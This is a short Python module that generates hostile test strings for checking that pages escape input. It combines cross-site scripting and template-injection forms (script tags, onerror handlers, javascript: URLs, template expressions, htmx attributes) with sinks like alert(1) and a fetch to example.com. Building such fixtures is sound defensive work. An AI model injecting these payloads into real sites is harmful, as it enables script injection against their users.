"""Texts that do harm where a page does not escape them, or a script reads them."""

from __future__ import annotations

from itertools import islice, product

SINKS = ("window.pwned=1", "alert(1)", "fetch('//example.com')")
FORMS = (
    "<script>{0}</script>",
    '"><script>{0}</script>',
    "'><img src=x onerror={0}>",
    "<svg/onload={0}>",
    "javascript:{0}",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</pre><script>{0}</script>",
    '<a href="javascript:{0}">x</a>',
    '<iframe srcdoc="<script>{0}</script>">',
    "[[constructor.constructor('{0}')()]]",
    "$[{0}]",
    "[% raw %][[7*7]]{0}",
    '<img src=x style="x:expression({0})">',
    "<style>*[background:url(//x)]</style>{0}",
    "<link rel=stylesheet href=//example.com/x.css>{0}",
    "<base href=//example.com/>{0}",
    "<meta http-equiv=refresh content=0>{0}",
    "<form action=//example.com><button>{0}</form>",
    "<div hx-get=/console hx-trigger=load>{0}</div>",
    '<div hx-on:click={0} hx-vals="js:[x:{0}]">',
    "<template shadowrootmode=open>{0}</template>",
    "\u202e{0}\u202c",
    "&lt;{0}&#x3c;",
    "]]><!--{0}-->",
    "`{0}`",
    '\\"{0}\\"',
    "%3Cscript%3E{0}",
)
"""Brackets stand for braces."""
AROUND = ("{0}", '["a": "{0}"]', "a\n{0}", "x" * 300 + "{0}", "{0}{0}{0}", "\t {0} ", '("{0}",1)', "\u00e9{0}\u6f22",
          "{0}\r\n", "'{0}", '"{0}', "<{0}")  # fmt: skip


def hostile_texts(number: int) -> list[str]:
    """Returns `number` different texts, none with a character that no message may have."""
    texts = [
        around.replace("{0}", form.replace("{0}", sink)).replace("[", "{").replace("]", "}")
        for around, form, sink in islice(product(AROUND, FORMS, SINKS), number)
    ]
    assert len(set(texts)) == number
    return texts
